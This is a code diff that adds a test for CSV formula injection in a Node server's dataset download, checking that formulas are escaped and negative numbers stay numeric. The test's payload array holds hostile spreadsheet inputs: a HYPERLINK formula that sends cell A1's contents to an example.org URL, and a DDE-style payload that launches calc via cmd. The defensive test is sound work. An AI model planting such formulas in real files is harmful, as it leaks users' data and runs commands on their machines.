@@ -12,7 +12,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { FORM_LIMIT_BYTES } from '../../src/node/server/admin-token.js';
 import { FIRST_FIELD_BYTES } from '../../src/node/server/form-token.js';
 import { openDatabase } from '../../src/node/store/database.js';
-import { testApp, TOKEN, type TestApp } from '../node/server/app-fixture.js';
+import { EXAMPLE_CSV, testApp, TOKEN, upload, type TestApp } from '../node/server/app-fixture.js';
 
 const CHUNK = 64 * 1024;
 
@@ -240,6 +240,24 @@ describe('hostile writes', () => {
     expect((await send('/api/datasets', {}, '198.51.100.2')).status).toBe(200);
     // Requests in the same process (the static export) are not limited.
     expect((await t.app.request('/api/datasets')).status).toBe(200);
+  });
+
+  it('neutralises spreadsheet formulas in the CSV download, keeping negative numbers numeric', async () => {
+    const formulas = ['=HYPERLINK("https://example.org/?"&A1;"klik")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1'];
+    const csv = EXAMPLE_CSV.replaceAll('Huisartsen,', `"${formulas[0]!.replace(/"/g, '""')}",`)
+      .replaceAll('Sociaal werkers,', `"${formulas[1]}",`)
+      .replaceAll('Fysiotherapeuten,', `"${formulas[2]}",`);
+    expect((await upload(t.app, csv, 'formules.csv')).status).toBe(201);
+    const download = await (await t.app.request('/downloads/analyse.csv')).text();
+    const names = download.split('\r\n').map((line) => line.split(',')[0]!);
+    for (const formula of formulas) {
+      expect(download).not.toMatch(new RegExp(`(^|\r\n|,)"?${formula.slice(0, 4).replace(/[+]/g, '\\+')}`));
+    }
+    expect(names).toContain(`"'${formulas[0]!.replace(/"/g, '""')}"`);
+    expect(names).toContain(`'${formulas[2]}`);
+    // z-scores below the mean are negative numbers and stay numbers.
+    expect(download).toMatch(/,-\d+\.\d+,/);
+    expect(download).not.toMatch(/'-\d/);
   });
 
   describe('over a real socket', () => {
